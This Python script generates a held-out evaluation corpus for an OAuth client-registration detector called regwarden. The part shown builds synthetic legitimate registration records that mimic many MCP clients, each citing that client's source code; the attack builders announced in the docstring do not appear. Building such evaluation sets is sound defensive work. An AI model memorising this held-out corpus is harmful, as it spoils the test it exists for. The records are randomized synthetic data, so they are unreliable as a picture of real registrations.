#!/usr/bin/env python3
"""Deterministic generator of regwarden's HELD-OUT evaluation corpus.

Writes tests/heldout/corpus.jsonl next to this file: one JSON object per line,
{"kind": "legit"|"attack", "family" (legit) | "class" (attack), "source", "registration"}.

The corpus is independent of regwarden's scoring rules: every legitimate shape below is
taken from the client's own registration code (repository + path cited on each builder),
every attack from the OAuth standards (RFC / draft section cited on each builder).

Stdlib only, fixed seed; running it twice gives byte-identical output.
    python3 tests/heldout/build.py
"""

import base64
import hashlib
import json
import os
import random
import uuid
from datetime import datetime, timedelta, timezone

SEED = 20261120
NOW = datetime(2026, 11, 20, 0, 0, 0, tzinfo=timezone.utc)
rng = random.Random(SEED)
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus.jsonl")

RECORDS = []
MISSING = object()

# --------------------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------------------


def uid():
    """A UUIDv4 as an AS such as Hydra hands out for a DCR client."""
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def rfc3339(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def lifecycle(max_age_days=300, min_age_days=0, p_used=0.6, p_never=0.3, reuse_span=None):
    """created_at within the preceding months; last_used_at used / never (null) / unknown."""
    age = rng.uniform(min_age_days, max_age_days)
    created = NOW - timedelta(days=age, seconds=rng.randint(0, 86399))
    r = rng.random()
    if r < p_used:
        span = (NOW - created).total_seconds()
        if reuse_span is not None:
            span = min(span, reuse_span * 86400)
        used = created + timedelta(seconds=rng.uniform(60, max(120, span)))
        if used > NOW:
            used = NOW - timedelta(seconds=rng.randint(60, 3600))
        return rfc3339(created), rfc3339(used)
    if r < p_used + p_never:
        return rfc3339(created), None
    return rfc3339(created), MISSING


ORDER = [
    "client_id", "client_name", "redirect_uris", "grant_types", "response_types",
    "token_endpoint_auth_method", "scope", "client_uri", "logo_uri", "policy_uri", "tos_uri",
    "contacts", "software_id", "software_version", "software_statement", "application_type",
    "jwks_uri", "jwks", "sector_identifier_uri", "request_uris", "resource",
    "code_challenge_method",
]


def reg(meta, created_last, client_id=None):
    created, last = created_last
    out = {"client_id": client_id or uid()}
    for k in ORDER:
        if k in meta and k != "client_id":
            out[k] = meta[k]
    for k in meta:
        if k not in out:
            out[k] = meta[k]
    out["created_at"] = created
    if last is not MISSING:
        out["last_used_at"] = last
    return out


def legit(family, source, meta, lc=None, client_id=None):
    RECORDS.append({
        "kind": "legit",
        "family": family,
        "source": source,
        "registration": reg(meta, lc or lifecycle(), client_id),
    })


def attack(cls, source, meta, lc=None, client_id=None):
    RECORDS.append({
        "kind": "attack",
        "class": cls,
        "source": source,
        "registration": reg(meta, lc or attack_lifecycle(), client_id),
    })


def attack_lifecycle():
    # Attacks are mostly recent; a few were consented to (used), most never used.
    return lifecycle(max_age_days=90, p_used=0.25, p_never=0.6)


def eph_port():
    return rng.randint(49152, 65535)


def b64url(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


SERVERS = [
    ("linear", "https://mcp.linear.app/mcp"),
    ("notion", "https://mcp.notion.com/mcp"),
    ("github", "https://api.githubcopilot.com/mcp/"),
    ("sentry", "https://mcp.sentry.dev/mcp"),
    ("atlassian", "https://mcp.atlassian.com/v1/sse"),
    ("figma", "https://mcp.figma.com/mcp"),
    ("stripe", "https://mcp.stripe.com"),
    ("asana", "https://mcp.asana.com/sse"),
    ("supabase", "https://mcp.supabase.com/mcp"),
    ("context7", "https://mcp.context7.com/mcp"),
    ("internal-kb", "https://mcp.kb.corp.example/mcp"),
    ("jira-prod", "https://mcp.jira.corp.example/mcp"),
    ("hubspot", "https://mcp.hubspot.com/anthropic"),
    ("neon", "https://mcp.neon.tech/mcp"),
    ("paypal", "https://mcp.paypal.com/mcp"),
]

SCOPE_SETS = [None, None, "openid profile email offline_access", "mcp", "read write",
              "mcp:tools mcp:resources", "openid offline_access", "user"]

OPERATOR_HOSTS = [
    "chat.northwind.example", "ai.contoso.example", "webui.fabrikam.example",
    "llm.tailspin-toys.example", "assistant.adventure-works.example", "owui.example.org",
    "gpt.wingtip.example", "ai-intra.litware.example", "chat.proseware.example",
    "workbench.woodgrove.example",
]


def pick(seq):
    return seq[rng.randrange(len(seq))]


# ======================================================================================
# LEGITIMATE: real MCP clients (not in REFERENCE.md), shapes from their own code
# ======================================================================================


def zed(n=18):
    # zed-industries/zed crates/context_server/src/oauth.rs @04afc35b: dcr_registration_body()
    # client_name "Zed", redirect from start_callback_server() = http://127.0.0.1:<ephemeral>/callback,
    # grant_types = {authorization_code, refresh_token} ∩ server grant_types_supported,
    # scope only when the server requests/advertises scopes. New registration every flow.
    src = "zed-industries/zed crates/context_server/src/oauth.rs dcr_registration_body"
    for _ in range(n):
        gt = ["authorization_code", "refresh_token"] if rng.random() < 0.85 else ["authorization_code"]
        m = {"client_name": "Zed", "redirect_uris": [f"http://127.0.0.1:{eph_port()}/callback"],
             "grant_types": gt, "response_types": ["code"], "token_endpoint_auth_method": "none"}
        sc = pick(SCOPE_SETS)
        if sc:
            m["scope"] = sc
        legit("zed", src, m, lifecycle(p_used=0.45, p_never=0.5))


def zed_cimd(n=1):
    # zed-industries/zed crates/context_server/src/oauth.rs: CIMD_URL; stored as a client by ASes
    # that persist CIMD clients (Keycloak). Document contents not in the repo: only id asserted.
    src = "zed-industries/zed crates/context_server/src/oauth.rs CIMD_URL"
    for _ in range(n):
        m = {"client_name": "Zed", "redirect_uris": [f"http://127.0.0.1:{eph_port()}/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none"}
        legit("zed-cimd", src, m, client_id="https://zed.dev/oauth/client-metadata.json")


def continue_dev(n=12):
    # continuedev/continue core/context/mcp/MCPOauth.ts @11fa0e26: clientMetadata getter.
    # PORT = 3000, redirect http://localhost:3000 (or ide.getExternalUri of it), with
    # ?state=<uuid v4> appended while an auth flow is running (getRedirectUrlWithState).
    src = "continuedev/continue core/context/mcp/MCPOauth.ts clientMetadata"
    for i in range(n):
        if rng.random() < 0.7:
            r = f"http://localhost:3000/?state={uid()}"
        else:
            r = "http://localhost:3000"
        m = {"client_name": "Continue Dev, Inc", "redirect_uris": [r],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "client_uri": "https://continue.dev"}
        legit("continue", src, m)


def roo_code(n=14):
    # RooCodeInc/Roo-Code src/services/mcp/McpOAuthClientProvider.ts @4b1df52f: clientMetadata.
    # redirect http://localhost:<callback server port>/callback; auth method "none" if the AS lists
    # it, else the AS's first method, else client_secret_post; grant_types = AS
    # grant_types_supported verbatim (default AC+RT); client_name serverName || "Roo Code".
    src = "RooCodeInc/Roo-Code src/services/mcp/McpOAuthClientProvider.ts create()/clientMetadata"
    for i in range(n):
        gts = ["authorization_code", "refresh_token"]
        auth = "none"
        if i == 3:  # AS advertising many grants: Roo mirrors them verbatim
            gts = ["authorization_code", "refresh_token", "client_credentials",
                   "urn:ietf:params:oauth:grant-type:device_code"]
        if i == 7:
            gts = ["authorization_code", "implicit", "refresh_token"]
            auth = "client_secret_basic"
        if i == 9:
            auth = "client_secret_post"
        m = {"client_name": "Roo Code", "redirect_uris": [f"http://localhost:{eph_port()}/callback"],
             "grant_types": gts, "response_types": ["code"], "token_endpoint_auth_method": auth}
        legit("roo-code", src, m, lifecycle(p_used=0.5, p_never=0.45))


def kilo_code(n=12):
    # Kilo-Org/kilocode src/services/mcp/McpOAuthManager.ts @3b7a2b03: clientMetadata;
    # McpOAuthCallbackServer.ts: http://127.0.0.1:<48801..48811>; src/utils/mcpAuth.ts
    # getMcpServerCallbackPath = /mcp-auth/callback/<sha256(serverName:serverUrl) hex>.
    src = "Kilo-Org/kilocode src/services/mcp/McpOAuthManager.ts clientMetadata"
    for _ in range(n):
        name, url = pick(SERVERS)
        h = hashlib.sha256(f"{name}:{url}".encode()).hexdigest()
        port = 48801 + min(int(rng.expovariate(1.5)), 10)
        m = {"client_name": "Kilo Code",
             "redirect_uris": [f"http://127.0.0.1:{port}/mcp-auth/callback/{h}"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "client_uri": "https://kilo.ai",
             "software_id": "kilocode"}
        legit("kilo-code", src, m)


def kilo_code_legacy(n=6):
    # Kilo-Org/kilocode (legacy tree, e.g. mirror hxx0215/kilocode-legacy @a1d247be)
    # src/services/mcp/oauth/McpOAuthService.ts registerClient(); redirect list from
    # initiateOAuthFlow(); DEFAULT_AUTH_FLOW_PORT = 33418 (McpOAuthBrowserFlow.ts).
    src = "Kilo-Org/kilocode (legacy) src/services/mcp/oauth/McpOAuthService.ts registerClient"
    for _ in range(n):
        m = {"client_name": "Kilo Code",
             "redirect_uris": ["http://127.0.0.1/", "http://127.0.0.1:33418/",
                               "vscode://kilocode.kilo-code/oauth/callback"],
             "grant_types": ["authorization_code"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "client_uri": "https://kilocode.ai",
             "logo_uri": "https://kilocode.ai/logo.png"}
        legit("kilo-code-legacy", src, m)


def crush(n=12):
    # charmbracelet/crush internal/agent/tools/mcp/oauth.go @186b60ea: buildRegistrationConfig()
    # default DCR metadata; newCallbackServer(): listens 127.0.0.1:<cfg port or 0> but the
    # redirect it registers is http://localhost:<port>/callback.
    src = "charmbracelet/crush internal/agent/tools/mcp/oauth.go buildRegistrationConfig"
    for _ in range(n):
        port = eph_port() if rng.random() < 0.8 else pick([8085, 9876, 33333])
        m = {"client_name": "Crush MCP Client", "redirect_uris": [f"http://localhost:{port}/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none"}
        legit("crush", src, m)


def codex_callback_id(server_url):
    # openai/codex codex-rs/rmcp-client/src/perform_oauth_login.rs callback_id_from_server_url
    return b64url(hashlib.sha256(server_url.encode()).digest()[:9])


def codex(n=16):
    # openai/codex codex-rs/rmcp-client/src/perform_oauth_login.rs @18b3cfcb: start_authorization
    # passes client name "Codex" to rmcp; redirect http://127.0.0.1:<port>/callback/<callback id>;
    # rmcp crates/rmcp/src/transport/auth.rs register_client(): AC+RT, code, none, scope when
    # given, application_type "native" (DEFAULT_APPLICATION_TYPE, rmcp >= 1.8, SEP-837).
    src = "openai/codex codex-rs/rmcp-client/src/perform_oauth_login.rs + rmcp register_client"
    for _ in range(n):
        name, url = pick(SERVERS)
        port = eph_port() if rng.random() < 0.85 else pick([1456, 8765])
        m = {"client_name": "Codex",
             "redirect_uris": [f"http://127.0.0.1:{port}/callback/{codex_callback_id(url)}"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "application_type": "native"}
        sc = pick(SCOPE_SETS)
        if sc:
            m["scope"] = sc
        legit("codex", src, m)


def codex_v0(n=6):
    # Older openai/codex rmcp-client (before callback ids, rmcp < 1.8): same name, redirect
    # http://127.0.0.1:<port>/callback, no application_type.
    src = "openai/codex codex-rs/rmcp-client/src/perform_oauth_login.rs (older) + rmcp 0.x register_client"
    for _ in range(n):
        m = {"client_name": "Codex", "redirect_uris": [f"http://127.0.0.1:{eph_port()}/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none"}
        legit("codex-v0", src, m, lifecycle(min_age_days=150, max_age_days=320))


def qwen_code(n=10):
    # QwenLM/qwen-code packages/core/src/mcp/constants.ts MCP_OAUTH_CLIENT_NAME +
    # getOAuthRedirectUri() (http://localhost:7777/oauth/callback, or the Aliyun DSW proxy
    # https://<dsw_baseUrl>/proxy/7777/oauth/callback); oauth-provider.ts registerClient():
    # AC+RT, code, none, code_challenge_method ["S256"], scope joined or "".
    src = "QwenLM/qwen-code packages/core/src/mcp/constants.ts + oauth-provider.ts registerClient"
    for i in range(n):
        if i in (4, 8):
            r = f"https://dw.aliyun.com/dsw-{rng.randint(100000, 999999)}/proxy/7777/oauth/callback"
        else:
            r = "http://localhost:7777/oauth/callback"
        m = {"client_name": "Qwen Code MCP Client", "redirect_uris": [r],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "code_challenge_method": ["S256"],
             "scope": pick(["", "", "openid profile email", "mcp"])}
        legit("qwen-code", src, m)


def qwen_code_gemini_adc(n=5):
    # QwenLM/qwen-code packages/core/src/mcp/oauth-provider.ts @16d6fd08 (older, inherited from
    # Gemini CLI): client_name 'Gemini CLI (Google ADC)', http://localhost:7777/oauth/callback.
    src = "QwenLM/qwen-code packages/core/src/mcp/oauth-provider.ts @16d6fd08 registerClient"
    for _ in range(n):
        m = {"client_name": "Gemini CLI (Google ADC)",
             "redirect_uris": ["http://localhost:7777/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "code_challenge_method": ["S256"], "scope": ""}
        legit("qwen-code-gemini-adc", src, m, lifecycle(min_age_days=120, max_age_days=320))


def opencode(n=16):
    # sst/opencode packages/opencode/src/mcp/oauth-provider.ts: McpOAuthProvider.clientMetadata:
    # client_name "OpenCode" (newer provider(): "opencode"), client_uri https://opencode.ai,
    # redirect http://127.0.0.1:<OAUTH_CALLBACK_PORT=19876 or config.callbackPort>/mcp/oauth/callback,
    # token_endpoint_auth_method "none" (client_secret_post only with a configured secret),
    # scope only when configured.
    src = "sst/opencode packages/opencode/src/mcp/oauth-provider.ts clientMetadata"
    for _ in range(n):
        port = 19876 if rng.random() < 0.85 else pick([19877, 23456])
        m = {"client_name": pick(["OpenCode", "OpenCode", "opencode"]),
             "redirect_uris": [f"http://127.0.0.1:{port}/mcp/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "client_uri": "https://opencode.ai"}
        if rng.random() < 0.2:
            m["scope"] = pick(["read write", "mcp"])
        legit("opencode", src, m)


def deepcode_fork(n=4):
    # Fork of opencode with its own name: a rename script in a public fork rewrites
    # opencode/src/mcp/oauth-provider.ts client_name "OpenCode" -> "DeepCode" and client_uri ->
    # https://github.com/yuanchenglu/deepcode (operator fork, legitimate).
    src = "fork of sst/opencode (DeepCode rename of src/mcp/oauth-provider.ts)"
    for _ in range(n):
        m = {"client_name": "DeepCode", "redirect_uris": ["http://127.0.0.1:19876/mcp/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none",
             "client_uri": "https://github.com/yuanchenglu/deepcode"}
        legit("deepcode-fork", src, m)


def open_webui(n=14):
    # open-webui/open-webui backend/open_webui/utils/oauth.py
    # get_oauth_client_info_with_dynamic_client_registration(): client_name "Open WebUI",
    # redirect {WEBUI_URL}/oauth/clients/{client_id}/callback (client_id e.g. "mcp:<server id>"),
    # AC+RT, code; token_endpoint_auth_method = mcp SDK 1.x default client_secret_post unless the
    # AS does not list it (then the AS's first method); scope = AS scopes_supported joined.
    src = "open-webui/open-webui backend/open_webui/utils/oauth.py get_oauth_client_info_with_dynamic_client_registration"
    for i in range(n):
        host = pick(OPERATOR_HOSTS)
        base = f"https://{host}"
        if i == 5:
            base = "http://192.168.1.50:3000"  # LAN install without TLS (real, discouraged)
        if i == 9:
            base = "http://localhost:8080"
        sid = pick(["linear", "notion", "github", "atlassian", "jira", "kb", "sentry"])
        auth = pick(["client_secret_post", "client_secret_post", "client_secret_post",
                     "client_secret_basic", "none"])
        m = {"client_name": "Open WebUI",
             "redirect_uris": [f"{base}/oauth/clients/mcp:{sid}/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": auth}
        sc = pick([None, "openid profile email offline_access", "read:jira-work write:jira-work offline_access"])
        if sc:
            m["scope"] = sc
        legit("open-webui", src, m, lifecycle(p_used=0.75, p_never=0.2))


def dify(n=14):
    # langgenius/dify api/core/mcp/... MCP OAuth provider: client_metadata property:
    # client_name "Dify", client_uri https://github.com/langgenius/dify, none, AC+RT, code;
    # redirect dify_config.CONSOLE_API_URL + "/console/api/mcp/oauth/callback"
    # (older versions: CONSOLE_WEB_URL + "/tools").
    src = "langgenius/dify api/services (MCP provider) client_metadata / redirect_url"
    for i in range(n):
        host = pick(["dify.northwind.example", "api.dify.contoso.example", "dify-console.fabrikam.example",
                     "cloud.dify.ai", "dify.litware.example"])
        if i % 4 == 3:
            r = f"https://{host}/tools"
            fam = "dify-legacy"
        else:
            r = f"https://{host}/console/api/mcp/oauth/callback"
            fam = "dify"
        m = {"client_name": "Dify", "redirect_uris": [r],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "client_uri": "https://github.com/langgenius/dify"}
        legit(fam, src, m, lifecycle(p_used=0.7, p_never=0.25))


def n8n(n=16):
    # n8n-io/n8n packages/cli/src/oauth/oauth.service.ts generateAOauth2AuthUri(): registerPayload
    # client_name 'n8n', client_uri 'https://n8n.io/', redirect <instance>/rest/oauth2-credential/callback,
    # response_types ['code'], scope = AS scopes_supported joined (omitted if none);
    # selectGrantTypeAndAuthenticationMethod/mapGrantTypeAndAuthenticationMethod: pkce -> AC+RT/none,
    # authorizationCode -> AC+RT/client_secret_basic|post, clientCredentials -> [client_credentials].
    src = "n8n-io/n8n packages/cli/src/oauth/oauth.service.ts generateAOauth2AuthUri"
    hosts = ["n8n.northwind.example", "automation.contoso.example", "flows.fabrikam.example",
             "acme.app.n8n.cloud", "n8n.litware.example", "workflows.tailspin-toys.example"]
    for i in range(n):
        host = pick(hosts)
        r = f"https://{host}/rest/oauth2-credential/callback"
        if i == 6:
            r = "http://localhost:5678/rest/oauth2-credential/callback"
        mode = ["pkce", "pkce", "pkce", "pkce", "basic", "post", "cc_basic"][i % 7]
        if mode == "pkce":
            gt, am = ["authorization_code", "refresh_token"], "none"
        elif mode == "basic":
            gt, am = ["authorization_code", "refresh_token"], "client_secret_basic"
        elif mode == "post":
            gt, am = ["authorization_code", "refresh_token"], "client_secret_post"
        else:
            gt, am = ["client_credentials"], "client_secret_basic"
        m = {"client_name": "n8n", "redirect_uris": [r], "grant_types": gt, "response_types": ["code"],
             "token_endpoint_auth_method": am, "client_uri": "https://n8n.io/"}
        sc = pick([None, "openid profile email", "read write", "mcp offline_access"])
        if sc:
            m["scope"] = sc
        legit("n8n", src, m, lifecycle(p_used=0.75, p_never=0.2))


def mcpjam(n=14):
    # MCPJam/inspector client/src/lib/mcp-oauth.ts MCPOAuthProvider.clientMetadata:
    # client_name `MCPJam - ${serverName}`, client_uri https://github.com/mcpjam/inspector,
    # logo_uri https://www.mcpjam.com/mcp_jam_2row.png (later versions), redirect
    # ${window.location.origin}/oauth/callback (local default http://localhost:6274), none, AC+RT.
    src = "MCPJam/inspector client/src/lib/mcp-oauth.ts MCPOAuthProvider.clientMetadata"
    for i in range(n):
        sname = pick(["linear", "notion", "asana", "my-server", "Local Dev", "staging", "github"])
        origin = pick(["http://localhost:6274", "http://localhost:6274", "http://127.0.0.1:6274"])
        m = {"client_name": f"MCPJam - {sname}", "redirect_uris": [f"{origin}/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "client_uri": "https://github.com/mcpjam/inspector"}
        if rng.random() < 0.6:
            m["logo_uri"] = "https://www.mcpjam.com/mcp_jam_2row.png"
        legit("mcpjam", src, m, lifecycle(p_used=0.5, p_never=0.45))


def mcpjam_debug(n=4):
    # MCPJam/inspector debug OAuth flow provider: client_name "MCPJam", redirect
    # ${origin}/oauth/callback/debug, same client_uri/logo_uri.
    src = "MCPJam/inspector client/src/lib/debug-oauth-provider.ts clientMetadata"
    for _ in range(n):
        m = {"client_name": "MCPJam", "redirect_uris": ["http://localhost:6274/oauth/callback/debug"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "client_uri": "https://github.com/mcpjam/inspector",
             "logo_uri": "https://www.mcpjam.com/mcp_jam_2row.png"}
        legit("mcpjam-debug", src, m, lifecycle(p_used=0.2, p_never=0.8))


def cherry_studio(n=12):
    # CherryHQ/cherry-studio src/main/services/mcp/oauth/provider.ts @c78d1d96: defaults
    # callbackPort 12346, callbackPath /oauth/callback, clientName 'Cherry Studio',
    # clientUri https://github.com/CherryHQ/cherry-studio; redirect http://127.0.0.1:12346/oauth/callback.
    src = "CherryHQ/cherry-studio src/main/services/mcp/oauth/provider.ts McpOAuthClientProvider"
    for _ in range(n):
        m = {"client_name": "Cherry Studio", "redirect_uris": ["http://127.0.0.1:12346/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "client_uri": "https://github.com/CherryHQ/cherry-studio"}
        legit("cherry-studio", src, m)


def cockpit_fork(n=4):
    # Fork of Cherry Studio's provider.ts with its own defaults (stored under the same path):
    # clientName 'neucleos Cockpit', clientUri https://github.com/neucleos/cockpit-electron.
    src = "fork of CherryHQ/cherry-studio src/main/services/mcp/oauth/provider.ts (@19542efd)"
    for _ in range(n):
        m = {"client_name": "neucleos Cockpit", "redirect_uris": ["http://127.0.0.1:12346/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none",
             "client_uri": "https://github.com/neucleos/cockpit-electron"}
        legit("neucleos-cockpit", src, m)


def cloudflare_agents(n=8):
    # cloudflare/agents packages/agents/src/mcp/do-oauth-client-provider.ts
    # DurableObjectOAuthClientProvider.clientMetadata: client_name = the name passed by the agent,
    # client_uri = origin of the redirect (newer) or the literal "example.com" (older),
    # redirect = baseRedirectUrl (newer) or `${baseRedirectUrl}/${serverId}` (older); none, AC+RT.
    # The agent's callback path below is an assumption (see README: uncertain).
    src = "cloudflare/agents packages/agents/src/mcp/do-oauth-client-provider.ts clientMetadata"
    hosts = ["my-agent.acme.workers.dev", "agents.contoso.example", "support-bot.northwind.workers.dev"]
    for i in range(n):
        host = pick(hosts)
        inst = pick(["default", "user-4821", "team-ops", "prod"])
        base = f"https://{host}/agents/chat/{inst}/callback"
        if i % 3 == 2:
            m = {"client_name": inst, "redirect_uris": [f"{base}/{uid()[:8]}"],
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": "none", "client_uri": "example.com"}
            fam = "cloudflare-agents-old"
        else:
            m = {"client_name": inst, "redirect_uris": [base],
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": "none", "client_uri": f"https://{host}"}
            fam = "cloudflare-agents"
        legit(fam, src, m)


def fastmcp_client(n=12):
    # jlowin/fastmcp src/fastmcp/client/auth/oauth.py @b14b137f OAuth._bind(): client_name
    # "FastMCP Client", redirect http://localhost:<callback_port or find_available_port()>/callback,
    # AC+RT, code, scope "" when none given; token_endpoint_auth_method = mcp SDK 1.x default
    # "client_secret_post" (modelcontextprotocol/python-sdk v1.20.0 src/mcp/shared/auth.py).
    src = "jlowin/fastmcp src/fastmcp/client/auth/oauth.py OAuth._bind + mcp 1.x OAuthClientMetadata defaults"
    for _ in range(n):
        m = {"client_name": "FastMCP Client", "redirect_uris": [f"http://localhost:{eph_port()}/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "client_secret_post",
             "scope": pick(["", "", "", "read", "openid profile"])}
        legit("fastmcp-client", src, m)


def python_sdk_example(n=6):
    # modelcontextprotocol/python-sdk v1.20.0 examples/clients/simple-auth-client/.../main.py:
    # "Simple Auth Client", http://localhost:3030/callback, AC+RT, code, client_secret_post.
    src = "modelcontextprotocol/python-sdk v1.20.0 examples/clients/simple-auth-client main.py"
    for _ in range(n):
        m = {"client_name": "Simple Auth Client", "redirect_uris": ["http://localhost:3030/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "client_secret_post"}
        legit("python-sdk-simple-auth-client", src, m, lifecycle(p_used=0.3, p_never=0.7))


def rmcp_example(n=5):
    # modelcontextprotocol/rust-sdk rmcp-v3.1.4 examples/clients/src/auth/oauth_client.rs:
    # "Test MCP Client", http://127.0.0.1:8080/callback; register_client() AC+RT, code, none,
    # application_type "native".
    src = "modelcontextprotocol/rust-sdk examples/clients/src/auth/oauth_client.rs + auth.rs register_client"
    for _ in range(n):
        m = {"client_name": "Test MCP Client", "redirect_uris": ["http://127.0.0.1:8080/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "application_type": "native"}
        legit("rmcp-example", src, m, lifecycle(p_used=0.3, p_never=0.7))


def rmcp_default(n=4):
    # modelcontextprotocol/rust-sdk crates/rmcp/src/transport/auth.rs: AuthorizationSession::new
    # uses client_name "MCP Client" when the app sets none; the app picks the redirect.
    src = "modelcontextprotocol/rust-sdk crates/rmcp/src/transport/auth.rs (default client_name)"
    for _ in range(n):
        m = {"client_name": "MCP Client", "redirect_uris": [f"http://127.0.0.1:{eph_port()}/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "application_type": "native"}
        legit("rmcp-default", src, m)


def amazon_q(n=12):
    # aws/amazon-q-developer-cli crates/chat-cli/src/mcp_client/oauth_util.rs @1372a0e2:
    # start_authorization(): CLIENT_ID/name "Q DEV CLI", auth_manager.register_client(name,
    # redirect_uri) with redirect "http://{actual_addr}" = http://127.0.0.1:<port> (no path);
    # rmcp 0.x register_client: AC+RT, none, code.
    src = "aws/amazon-q-developer-cli crates/chat-cli/src/mcp_client/oauth_util.rs start_authorization"
    for _ in range(n):
        port = eph_port() if rng.random() < 0.85 else 7778
        m = {"client_name": "Q DEV CLI", "redirect_uris": [f"http://127.0.0.1:{port}"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none"}
        legit("amazon-q-cli", src, m)


def mcp_go_example(n=5):
    # mark3labs/mcp-go client/transport/oauth.go RegisterClient() (v1.0.0-beta.1): client_name,
    # redirect, none, AC+RT, code, scope (joined, "" if none), non-standard "resource" (RFC 8707
    # value); examples/oauth_client/main.go: "mcp-go-oauth-example", http://localhost:8085/oauth/callback.
    src = "mark3labs/mcp-go client/transport/oauth.go RegisterClient + examples/oauth_client/main.go"
    for _ in range(n):
        name, url = pick(SERVERS)
        m = {"client_name": "mcp-go-oauth-example",
             "redirect_uris": ["http://localhost:8085/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "scope": pick(["", "mcp.read mcp.write"]),
             "resource": url}
        legit("mcp-go-example", src, m, lifecycle(p_used=0.3, p_never=0.7))


def metamcp(n=10):
    # metatool-ai/metatool-app app/.../oauth provider DbOAuthClientProvider.clientMetadata:
    # client_name 'MetaMCP', client_uri https://github.com/metatool-ai/metatool-app,
    # redirect window.location.origin + '/oauth/callback', none, AC+RT.
    src = "metatool-ai/metatool-app DbOAuthClientProvider.clientMetadata"
    for _ in range(n):
        host = pick(["metamcp.northwind.example", "mcp-hub.contoso.example", "metamcp.fabrikam.example",
                     "tools.litware.example"])
        m = {"client_name": "MetaMCP", "redirect_uris": [f"https://{host}/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none",
             "client_uri": "https://github.com/metatool-ai/metatool-app"}
        legit("metamcp", src, m)


def witsy(n=10):
    # nbonamy/witsy src/main/mcp_auth.ts @08b47a9f McpOAuthManager.getClientMetadata():
    # `${appName} MCP Client`, http://localhost:<portfinder from 8090>/callback, AC+RT, code,
    # client_secret_post, scope from the resource metadata when present (older: 'mcp:tools').
    src = "nbonamy/witsy src/main/mcp_auth.ts getClientMetadata"
    for _ in range(n):
        port = 8090 + min(int(rng.expovariate(1.2)), 5)
        m = {"client_name": "Witsy MCP Client", "redirect_uris": [f"http://localhost:{port}/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "client_secret_post"}
        sc = pick([None, "mcp:tools", "openid profile offline_access"])
        if sc:
            m["scope"] = sc
        legit("witsy", src, m)


def langflow(n=10):
    # langflow-ai/langflow MCP OAuth (Python SDK OAuthClientMetadata): client_name "langflow",
    # AC+RT, code, none, scope joined or omitted; callback {base_url}/api/v1/mcp/oauth/callback.
    src = "langflow-ai/langflow MCP OAuth client (OAuthClientMetadata client_name=langflow)"
    for _ in range(n):
        host = pick(["langflow.northwind.example", "flows.contoso.example", "lf.fabrikam.example"])
        base = f"https://{host}" if rng.random() < 0.75 else "http://localhost:7860"
        m = {"client_name": "langflow", "redirect_uris": [f"{base}/api/v1/mcp/oauth/callback"],
             "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
             "token_endpoint_auth_method": "none"}
        if rng.random() < 0.4:
            m["scope"] = pick(["openid profile", "mcp"])
        legit("langflow", src, m)


def mcp_use(n=10):
    # mcp-use/mcp-use libraries/python/mcp_use/client/auth/oauth.py @1294aef0
    # OAuth._try_dynamic_registration(): "mcp-use", redirect http://localhost:<callback_port,
    # default 8080>/callback, grant_types ["authorization_code"], code, none,
    # application_type "native", scope when configured.
    src = "mcp-use/mcp-use libraries/python/mcp_use/client/auth/oauth.py _try_dynamic_registration"
    for _ in range(n):
        port = 8080 if rng.random() < 0.7 else pick([8081, 9000, 3333])
        m = {"client_name": "mcp-use", "redirect_uris": [f"http://localhost:{port}/callback"],
             "grant_types": ["authorization_code"], "response_types": ["code"],
             "token_endpoint_auth_method": "none", "application_type": "native"}
        if rng.random() < 0.3:
            m["scope"] = pick(["read", "openid email"])
        legit("mcp-use", src, m)


# ======================================================================================
